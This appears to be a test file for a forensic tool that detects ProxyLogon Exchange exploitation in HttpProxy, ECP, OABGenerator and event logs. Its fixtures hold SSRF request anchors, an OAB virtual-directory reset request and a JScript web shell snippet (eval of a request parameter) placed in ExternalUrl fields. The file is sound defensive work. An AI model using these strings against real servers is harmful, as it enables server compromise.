// ProxyLogon checks on real-shaped HttpProxy / ECP / OABGenerator lines fed through the real parsers, with the benign
// twins that must not fire, plus verdicts and log coverage.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { EventInserter } from '../../../electron/case/write.ts';
import { parseHttpProxy } from '../../../electron/ingest/sources/httpproxy.ts';
import { parseEcpServer } from '../../../electron/ingest/sources/ecp-server.ts';
import { parseOabGenerator } from '../../../electron/ingest/sources/oab-generator.ts';
import { checkCve202126855, isSsrfAnchor } from '../../../electron/detect/cve-2021-26855.ts';
import { checkCve202126857 } from '../../../electron/detect/cve-2021-26857.ts';
import { checkCve202126858 } from '../../../electron/detect/cve-2021-26858.ts';
import { checkCve202127065, isMaliciousVdirCommand, isResetVdirAnchor } from '../../../electron/detect/cve-2021-27065.ts';
import { getLogCoverage, getVerdicts } from '../../../electron/detect/queries.ts';
import { runDetections } from '../../../electron/detect/index.ts';
import { isoToMicros } from '../../../shared/types.ts';
import { addFile, addLog, EP_REL, httpProxyLog, insertEvents, newCase } from './helpers.ts';
import type { TestCase } from './helpers.ts';

const ATTACKER = '165.232.154.116';
const ATTACKER2 = '86.105.18.116';
const SSRF_ECP = 'ServerInfo~a]@EXCH01.contoso.local:444/ecp/proxyLogon.ecp#';
const SSRF_MAPI = 'ServerInfo~a]@EXCH01.contoso.local:444/mapi/emsmdb/?#';
const SSRF_AUTODISCOVER = 'ServerInfo~a]@EXCH01.contoso.local:444/autodiscover/autodiscover.xml?#';
const RESET_OAB = 'ServerInfo~a]@EXCH01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=x4Fs0E8nDky9aN2XHqiCxwvQ-3I-3NgIcPzg7vJY7a4Z8gJrXm1WbE1P7pQ.&a=~1942062522#';

async function ecpAndOwaLogs(tc: TestCase): Promise<void> {
  await addLog(tc, `${EP_REL}/Logging/HttpProxy/Ecp/HttpProxy_2021030301-1.LOG`, 'httpproxy-log', parseHttpProxy, httpProxyLog([
    { time: '2021-03-03T01:00:00.000Z', protocol: 'Ecp', stem: '/ecp/y.js', anchor: 'ServerInfo~localhost/ecp/healthcheck.htm#', ip: '127.0.0.1', status: 200, ua: 'AMProbe/Local/ClientAccess' },
    { time: '2021-03-03T01:10:00.000Z', protocol: 'Ecp', stem: '/ecp/y.js', anchor: SSRF_AUTODISCOVER, ip: ATTACKER, status: 200 },
    { time: '2021-03-03T01:12:00.000Z', protocol: 'Ecp', stem: '/ecp/y.js', anchor: SSRF_ECP, ip: ATTACKER, status: 241, cookie: 'X-BEResource-Cookie' },
    { time: '2021-03-03T01:13:00.000Z', protocol: 'Ecp', stem: '/ecp/y.js', anchor: SSRF_ECP, ip: ATTACKER, status: 200 },
    { time: '2021-03-03T01:20:00.000Z', protocol: 'Ecp', stem: '/ecp/y.js', anchor: RESET_OAB, ip: ATTACKER, status: 200 },
    { time: '2021-03-03T01:25:00.000Z', protocol: 'Ecp', stem: '/ecp/default.flt', anchor: 'alice@contoso.com', ip: '10.1.1.20', status: 200, ua: 'Mozilla/5.0', user: 'CONTOSO\\alice' },
  ]));
  await addLog(tc, `${EP_REL}/Logging/HttpProxy/Mapi/HttpProxy_2021030302-1.LOG`, 'httpproxy-log', parseHttpProxy, httpProxyLog([
    { time: '2021-03-03T02:00:00.000Z', protocol: 'Mapi', stem: '/mapi/emsmdb/', anchor: SSRF_MAPI, ip: ATTACKER2, status: 500 },
  ]));
}

test('the SSRF anchor test follows Test-ProxyLogon: ServerInfo~*/* minus autodiscover and localhost', () => {
  assert.equal(isSsrfAnchor(SSRF_ECP), true);
  assert.equal(isSsrfAnchor(SSRF_MAPI), true);
  assert.equal(isSsrfAnchor(SSRF_AUTODISCOVER), false);
  assert.equal(isSsrfAnchor('ServerInfo~localhost/ecp/healthcheck.htm#'), false);
  assert.equal(isSsrfAnchor('ServerInfo~localhost:444/owa/#'), false);
  assert.equal(isSsrfAnchor('alice@contoso.com'), false);
  assert.equal(isSsrfAnchor('ServerInfo~EXCH01'), false);
});

test('CVE-2021-26855: 2xx SSRF rows are exploited, a 500-only IP is attempted; localhost and autodiscover rows do not fire', async () => {
  const tc = newCase();
  try {
    await ecpAndOwaLogs(tc);
    const found = checkCve202126855(tc.db);
    assert.equal(found.length, 2);
    const [exploited, attempted] = found;
    assert.equal(exploited.details?.outcome, 'exploited');
    assert.equal(exploited.details?.ip, ATTACKER);
    assert.equal(exploited.finding.severity, 'critical');
    // The header takes lines 1–6; lines 9, 10 (SSRF to /ecp) and 11 (the Reset…VirtualDirectory anchor is an SSRF too).
    const file = `${EP_REL}/Logging/HttpProxy/Ecp/HttpProxy_2021030301-1.LOG`;
    assert.deepEqual(exploited.finding.evidence, [{ file, line: 9 }, { file, line: 10 }, { file, line: 11 }]);
    assert.equal(exploited.finding.time, '2021-03-03T01:12:00.000Z');
    assert.equal(attempted.details?.outcome, 'attempted');
    assert.equal(attempted.details?.ip, ATTACKER2);
    assert.equal(attempted.finding.severity, 'high');
    assert.deepEqual(attempted.finding.evidence, [{ file: `${EP_REL}/Logging/HttpProxy/Mapi/HttpProxy_2021030302-1.LOG`, line: 7 }]);
  } finally {
    tc.close();
  }
});

test('CVE-2021-27065: Reset…VirtualDirectory with 200 and an ECP Set-OabVirtualDirectory carrying a script fire; the admin twin does not', async () => {
  assert.equal(isResetVdirAnchor(RESET_OAB), true);
  assert.equal(isResetVdirAnchor(SSRF_ECP), false);
  assert.equal(isMaliciousVdirCommand(`S:CMD=Set-OabVirtualDirectory.ExternalUrl=''https://mail.contoso.com/OAB''.Identity=''EXCH01\\OAB (Default Web Site)''`), false);
  const tc = newCase();
  try {
    await ecpAndOwaLogs(tc);
    const ecpRel = `${EP_REL}/Logging/ECP/Server/ECPServer2021030301-1.LOG`;
    await addLog(tc, ecpRel, 'ecp-server-log', parseEcpServer, [
      '#Software: Microsoft Exchange Server', '#Version: 15.01.2176.002', '#Log-type: ECP Server Log', '#Date: 2021-03-03T00:00:00.000Z',
      '#Fields: TimeStamp,ServerName,EventId,EventData',
      // The administrator twin, in the real ECP Server layout: other keys carry tags (<null>, <PII>) outside the URL.
      `2021-03-02T10:00:00.000Z,EXCH01,ECP.Request,"S:TIME=833;S:SID=183477c2-9b37-4d4c-a8d4-d3bafe4f6d8d;S:CMD=Set-OabVirtualDirectory.ExternalUrl=''https://mail.contoso.com/OAB''.Identity=''EXCH01\\OAB (Default Web Site)'';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=17a9e586e71b4afea611d65c034a6399ef55659c.;S:REFERRER=;S:EX=;S:RS=0;S:BLD=15.1.2176.2;S:TNAME=<null>;S:TID=;S:PSA=<PII>admin@contoso.com</PII>"`,
      `2021-03-03T01:21:00.000Z,EXCH01,AdminAction,"S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""exec_code""],""unsafe"");}</script>''.Identity=''b3a6f2c1-e76e-4d31-9a5d-0f2b1f5c3c3e''"`,
    ].join('\r\n') + '\r\n');
    const found = checkCve202127065(tc.db);
    assert.equal(found.length, 2, 'one finding for the attacker IP (HttpProxy), one for the ECP log line (no IP)');
    assert.deepEqual(found.map((f) => f.details?.outcome), ['exploited', 'exploited']);
    assert.deepEqual(found.flatMap((f) => f.finding.evidence), [
      { file: `${EP_REL}/Logging/HttpProxy/Ecp/HttpProxy_2021030301-1.LOG`, line: 11 },
      { file: ecpRel, line: 7 },
    ]);
  } finally {
    tc.close();
  }
});

test('CVE-2021-27065: a script in the URL parameter past the message\'s 1,000 characters is found in EventData (the ECP prefilter tests both)', async () => {
  const tc = newCase();
  try {
    const ecpRel = `${EP_REL}/Logging/ECP/Server/ECPServer2021030301-1.LOG`;
    // a long InternalUrl first: the event's message is cut before ExternalUrl, whose script only EventData still holds
    const padding = `https://mail.contoso.com/${'a'.repeat(1200)}`;
    await addLog(tc, ecpRel, 'ecp-server-log', parseEcpServer, [
      '#Software: Microsoft Exchange Server', '#Version: 15.01.2176.002', '#Log-type: ECP Server Log', '#Date: 2021-03-03T00:00:00.000Z',
      '#Fields: TimeStamp,ServerName,EventId,EventData',
      `2021-03-03T01:21:00.000Z,EXCH01,AdminAction,"S:CMD=Set-OabVirtualDirectory.InternalUrl=''${padding}''.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""exec_code""],""unsafe"");}</script>''.Identity=''b3a6f2c1-e76e-4d31-9a5d-0f2b1f5c3c3e''"`,
    ].join('\r\n') + '\r\n');
    const message = tc.db.prepare("SELECT message FROM events WHERE source = 'ecp-server'").pluck().get() as string;
    assert.equal(isMaliciousVdirCommand(message), false, 'the message alone no longer shows the script');
    assert.deepEqual(checkCve202127065(tc.db).flatMap((f) => f.finding.evidence), [{ file: ecpRel, line: 6 }]);
  } finally {
    tc.close();
  }
});

test('CVE-2021-26858: a temp file outside ClientAccess\\OAB fires; the OAB Temp twin does not', async () => {
  const tc = newCase();
  try {
    const rel = `${EP_REL}/Logging/OABGeneratorLog/OABGenerator20210303-1.LOG`;
    await addLog(tc, rel, 'oab-generator-log', parseOabGenerator, [
      '2021-03-02T09:00:00.000Z,OABGenerator,Download failed and temporary file \'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\a1b2c3.tmp\' needs to be removed',
      '2021-03-03T01:22:00.000Z,OABGenerator,Download failed and temporary file \'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx\' needs to be removed',
    ].join('\r\n') + '\r\n');
    const found = checkCve202126858(tc.db);
    assert.equal(found.length, 1);
    assert.equal(found[0].finding.path, 'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx');
    assert.deepEqual(found[0].finding.evidence, [{ file: rel, line: 2 }]);
    assert.equal(found[0].finding.time, '2021-03-03T01:22:00.000Z');
  } finally {
    tc.close();
  }
});

test('CVE-2021-26857: a UM InvalidCastException error and a UMWorkerProcess child fire; a UM warning and another provider do not', () => {
  const tc = newCase();
  try {
    const rel = 'C/Windows/System32/winevt/Logs/Application.evtx';
    const fileId = addFile(tc, rel, 'ElfFile\0', { kind: 'evtx' });
    const ev = (record: number, fields: Record<string, string | number>) => ({
      ts: isoToMicros('2021-03-03T03:00:00Z') + record, tsDesc: 'Event Logged', source: 'evtx' as const, message: `record ${record}`,
      fields: { Channel: 'Application', Computer: 'EXCH01.contoso.local', RecordID: record, ...fields }, ref: { file: rel, record },
    });
    insertEvents(tc, fileId, [
      ev(101, { EventID: 1000, Provider: 'MSExchange Unified Messaging', Level: 2, 'data.0': 'UM worker process exception: System.InvalidCastException: Unable to cast object of type \'System.Windows.Data.ObjectDataProvider\'' }),
      ev(102, { EventID: 1000, Provider: 'MSExchange Unified Messaging', Level: 3, 'data.0': 'System.InvalidCastException (warning only)' }),
      ev(103, { EventID: 1000, Provider: 'Application Error', Level: 2, 'data.0': 'System.InvalidCastException in w3wp' }),
      ev(104, { EventID: 1, Provider: 'Microsoft-Windows-Sysmon', Level: 4, 'data.Image': 'C:\\Windows\\System32\\cmd.exe', 'data.ParentImage': 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe', 'data.CommandLine': 'cmd /c whoami' }),
    ]);
    const found = checkCve202126857(tc.db);
    assert.equal(found.length, 2);
    assert.deepEqual(found.flatMap((f) => f.finding.evidence), [{ file: rel, record: 101 }, { file: rel, record: 104 }]);
  } finally {
    tc.close();
  }
});

test('verdicts: exploited/attempted from hits; no-evidence only when the logs span Jan–Mar 2021, else not-covered', async () => {
  const tc = newCase();
  try {
    await ecpAndOwaLogs(tc);
    const oabRel = `${EP_REL}/Logging/OABGeneratorLog/OABGenerator20201215-1.LOG`;
    await addLog(tc, oabRel, 'oab-generator-log', parseOabGenerator,
      '2020-12-15T09:00:00.000Z,OABGenerator,OAB generation started\r\n2021-04-02T09:00:00.000Z,OABGenerator,OAB generation completed\r\n');
    // The copy's own file times (copied years later) must not count as log coverage.
    const ecpFile = tc.db.prepare("SELECT id, rel_path FROM files WHERE rel_path LIKE '%/HttpProxy/Ecp/%'").get() as { id: number; rel_path: string };
    new EventInserter(tc.db).insert({ ts: isoToMicros('2026-11-29T04:00:00Z'), tsDesc: 'File Accessed', source: 'filesystem', message: 'File Accessed', fields: {}, ref: { file: ecpFile.rel_path } }, ecpFile.id);
    await runDetections(tc.db, { evidenceRoots: tc.roots });
    const v = Object.fromEntries(getVerdicts(tc.db).map((x) => [x.cve, x]));
    assert.equal(v['CVE-2021-26855'].verdict, 'exploited');
    assert.equal(v['CVE-2021-26855'].hits, 4);
    assert.equal(v['CVE-2021-26855'].covered, false);
    assert.equal(v['CVE-2021-27065'].verdict, 'exploited');
    assert.equal(v['CVE-2021-26858'].verdict, 'no-evidence');
    assert.equal(v['CVE-2021-26858'].covered, true);
    assert.equal(v['CVE-2021-26857'].verdict, 'not-covered');
    assert.match(v['CVE-2021-26857'].summary, /no logs this check reads were collected/);
    const cov = getLogCoverage(tc.db);
    const ecp = cov.find((c) => c.folder === `${EP_REL}/Logging/HttpProxy/Ecp`);
    assert.ok(ecp);
    assert.equal(ecp.files, 1);
    assert.equal(ecp.oldest, isoToMicros('2021-03-03T01:00:00Z'));
    assert.equal(ecp.newest, isoToMicros('2021-03-03T01:25:00Z'));
    assert.equal(ecp.coversMarch2021, false);
    assert.equal(cov.find((c) => c.kind === 'oab-generator-log')?.coversMarch2021, true);
  } finally {
    tc.close();
  }
});

test('CVE-2021-27065 (c): an MSExchange Management cmdlet-log event with script in -ExternalUrl fires; the admin twin does not', () => {
  const tc = newCase();
  try {
    const rel = 'C/Windows/System32/winevt/Logs/MSExchange Management.evtx';
    const fileId = addFile(tc, rel, 'ElfFile\0', { kind: 'evtx' });
    const ev = (record: number, params: string) => ({
      ts: isoToMicros('2021-03-03T01:11:41Z') + record, tsDesc: 'Event Logged', source: 'evtx' as const, message: `MSExchange CmdletLogs 1: 0=Set-OabVirtualDirectory; 1=${params}`,
      fields: { EventID: 1, Provider: 'MSExchange CmdletLogs', Channel: 'MSExchange Management', Level: 4, RecordID: record, 'data.0': 'Set-OabVirtualDirectory', 'data.1': params, 'data.2': 'contoso.local/Users/SYSTEM' },
      ref: { file: rel, record },
    });
    insertEvents(tc, fileId, [
      ev(7700, `-ExternalUrl 'https://mail.contoso.com/OAB' -Identity 'OAB (Default Web Site)'`),
      ev(7713, `-ExternalUrl 'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>' -Identity 'OAB (Default Web Site)'`),
    ]);
    const found = checkCve202127065(tc.db);
    assert.equal(found.length, 1);
    assert.deepEqual(found[0].finding.evidence, [{ file: rel, record: 7713 }]);
  } finally {
    tc.close();
  }
});
